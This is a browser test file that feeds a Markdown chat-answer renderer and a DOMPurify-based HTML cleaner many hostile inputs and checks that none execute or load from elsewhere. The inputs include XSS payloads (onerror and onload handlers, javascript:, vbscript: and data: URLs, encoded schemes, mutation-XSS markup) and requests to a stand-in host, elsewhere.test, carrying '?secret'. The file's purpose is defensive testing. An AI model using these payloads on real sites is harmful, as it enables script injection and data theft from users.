/*
 * Hostile answers, on a page without a policy that would stop them: whole and
 * a character at a time, as Markdown and as the HTML that a faulty reader of
 * Markdown might make of it.  The same with DOMPurify turned off shows that
 * they do harm, and that this is seen.
 */

import { after, before, beforeEach, test } from 'node:test';
import assert from 'node:assert/strict';
import { launch, openModules } from './support/chromium.mjs';


const HIT = 'window.hit=1';

/* each of these does something, wherever HTML is let through */

const HTML = [
    `<img src=x onerror="${HIT}">`,
    `<img src="http://elsewhere.test/?secret">`,
    `<svg onload="${HIT}"></svg>`,
    `<svg><script>${HIT}</script></svg>`,
    `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}></style>`
    + '</mglyph></table></mtext></math>',
    `<iframe src="javascript:parent.${HIT}"></iframe>`,
    `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
    `<object data="http://elsewhere.test/"></object>`,
    `<embed src="http://elsewhere.test/">`,
    `<a href="javascript:${HIT}">x</a>`,
    `<a href=" &#106;ava&#10;script:${HIT}">x</a>`,
    `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<a href="/api/ai/sessions/1">x</a>`,
    `<a href="https://example.com/" onclick="${HIT}">x</a>`,
    `<a href="https://example.com/" style="position:fixed">x</a>`,
    `<p id="conversation" name="body">x</p>`,
    `<p class="round" tabindex="1" autofocus onfocus="${HIT}">x</p>`,
    `<style>body{background:url(http://elsewhere.test/)}</style>`,
    `<link rel="stylesheet" href="http://elsewhere.test/">`,
    `<meta http-equiv="refresh" content="99;url=http://elsewhere.test/">`,
    `<base href="http://elsewhere.test/">`,
    `<form action="http://elsewhere.test/"><button>x</button></form>`,
    `<input type="image" src="http://elsewhere.test/">`,
    `<details open ontoggle="${HIT}">x</details>`,
    `<video src="http://elsewhere.test/" onerror="${HIT}"></video>`,
    `<audio autoplay src="data:," onerror="${HIT}"></audio>`,
    `<table background="http://elsewhere.test/"><tr><td>x</td></tr></table>`,
    `<custom-element onclick="${HIT}">x</custom-element>`,
    `<template><img src=x onerror=${HIT}></template>`,
    `<div><p><b><img src=x onerror=${HIT}>`,
];

const MARKDOWN = [
    ...HTML,
    ...HTML.map((html) => `- a\n  > ${html}\n`),
    ...HTML.map((html) => `| a |\n|---|\n| ${html} |\n`),
    ...HTML.map((html) => `**${html}** \`${html}\` [${html}](https://a.test)`),
    ...HTML.map((html) => `\\(${html}\\)\n\n$$\n${html}\n$$\n`),
    `<script>${HIT}</script>`,
    `\`\`\`html" onclick="${HIT}\n</code></pre><script>${HIT}</script>\n\`\`\``,
    `\`\`\`"><img/src=x/onerror=${HIT}>\nx\n\`\`\``,
    `![x" onerror="${HIT}](https://a.test/i.png)`,
    `![<img src=x onerror=${HIT}>](https://a.test/i.png)`,
    '![x](http://elsewhere.test/?secret)',
    `![x](data:image/svg+xml,<svg onload="${HIT}"/>)`,
    `[x](https://a.test/"onmouseover="${HIT})`,
    `[x](https://a.test 'a" onclick="${HIT}')`,
    `<https://a.test/"onclick="${HIT}>`,
    `https://a.test/"onclick="${HIT}`,
    `&lt;img src=x onerror=${HIT}&gt; &#60;script&#62;${HIT}&#60;/script&#62;`,
    `[a]: javascript:${HIT}\n\n[a] [x][a]`,
    `<scr<script>ipt>${HIT}</scr</script>ipt>`,
    `<!--><img src=x onerror=${HIT}>-->`,
    `<![CDATA[><img src=x onerror=${HIT}>]]>`,
    `x@y.z"onclick=${HIT}`,
];

const ADDRESSES = [
    `[x](javascript:${HIT})`,
    `[x]( JaVaScRiPt:${HIT})`,
    `[x](java&#115;cript:${HIT})`,
    `[x](&#x6A;avascript&colon;${HIT})`,
    `[x](<javascript:${HIT}>)`,
    `<javascript:${HIT}>`,
    `[x](vbscript:x) ![x](javascript:${HIT})`,
    `[x](data:text/html;base64,PHNjcmlwdD4)`,
    `[**x**](\\javascript:${HIT})`,
    '[x](//elsewhere.test/) [x](/api/ai/sessions/1) [x](#a)',
    '[x](file:///etc/passwd) [x](blob:https://a.test/1)',
];


let browser;
let page;
let requests;


before(async () => {
    browser = await launch();
});


after(() => browser.close());


beforeEach(async () => {
    await page?.close();
    page = await openModules(browser);
    requests = [];

    page.on('request', (request) => {
        if (!request.url().startsWith('http://modules.test/')) {
            requests.push(request.url());
        }
    });

    await page.route(/elsewhere\.test/, (route) => route.abort());
    await page.evaluate(install);
});


/*
 * In the page: shown(text, pieces) and cleaned(html) put something on it, and
 * return what is wrong with it.
 */

function install() {
    const ALLOWED = {
        'a': ['href', 'target', 'rel'],
        'button': ['type', 'class'],
        'div': ['class', 'tabindex'],
        'figure': ['class'],
        'input': ['type', 'disabled', 'checked'],
        'ol': ['start'],
        'pre': ['tabindex'],
        'td': ['align'],
        'th': ['align'],
    };

    const PLAIN = ['blockquote', 'br', 'code', 'del', 'em', 'figcaption', 'h2',
                   'h3', 'h4', 'h5', 'h6', 'hr', 'li', 'p', 'span', 'strong',
                   'table', 'tbody', 'thead', 'tr', 'ul'];

    function wrong(root) {
        return [...root.querySelectorAll('*')].flatMap((node) => {
            const tag = node.localName;

            if (!ALLOWED[tag] && !PLAIN.includes(tag)) {
                return [tag];
            }

            return [...node.attributes].filter(({ name, value }) =>
                !(ALLOWED[tag] ?? []).includes(name)
                || name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)
                || name === 'target' && value !== '_blank'
                || name === 'type' && !/^(button|checkbox)$/.test(value)
                || name === 'class'
                   && !/^(code|table|quiet copy)$/.test(value))
                .map(({ name, value }) => `${tag} ${name}=${value}`);
        });
    }

    /* what loads and fails does so within a moment */

    async function done(root, found) {
        await new Promise((resolve) => setTimeout(resolve, 20));

        const all = [...found, ...wrong(root),
                     ...window.hit === undefined ? [] : ['hit']];

        root.remove();
        delete window.hit;

        return all;
    }

    function begin() {
        const root = document.createElement('div');

        document.body.append(root);

        return root;
    }

    globalThis.shown = async (pieces) => {
        const { MarkdownView } = await import('/view.js');
        const root = begin();
        const view = new MarkdownView(root);
        const found = [];

        for (const piece of pieces) {
            view.append(piece);
            view.draw(true);
            found.push(...wrong(root));
        }

        view.finish();

        return done(root, found);
    };

    globalThis.cleaned = async (html) => {
        const { clean } = await import('/markdown.js');
        const root = begin();

        root.append(clean(html));

        return done(root, []);
    };
}


/* what is wrong with each: [text, ...] */

async function all(name, given) {
    const bad = [];

    for (const one of given) {
        const before = requests.length;
        const found = await page.evaluate(
            ([f, value]) => globalThis[f](value), [name, one]);

        found.push(...requests.slice(before));

        if (found.length) {
            bad.push([one, ...found]);
        }
    }

    return bad;
}


function turnOff() {
    return page.evaluate(() => {
        DOMPurify.sanitize = (html) => {
            const template = document.createElement('template');

            template.innerHTML = html;

            return document.importNode(template.content, true);
        };
    });
}


test('hostile Markdown does no harm', async () => {
    const texts = [...MARKDOWN, ...ADDRESSES];

    assert.deepEqual(await all('shown', texts.map((text) => [text])), []);
});


test('hostile Markdown does no harm a character at a time', async () => {
    const texts = [...MARKDOWN.slice(-17), ...ADDRESSES,
                   ...MARKDOWN.filter((_, i) => i % 7 === 0)];

    assert.deepEqual(await all('shown', texts.map((text) => [...text])), []);
});


test('hostile HTML is cleaned', async () => {
    assert.deepEqual(await all('cleaned', HTML), []);
});


test('without DOMPurify, the harm is seen', async () => {
    await turnOff();

    const bad = await all('cleaned', HTML);

    assert.deepEqual(HTML.filter((html) => !bad.some(([b]) => b === html)), []);

    const addresses = await all('shown', ADDRESSES.map((text) => [text]));

    assert.ok(addresses.length >= 6, JSON.stringify(addresses));
});
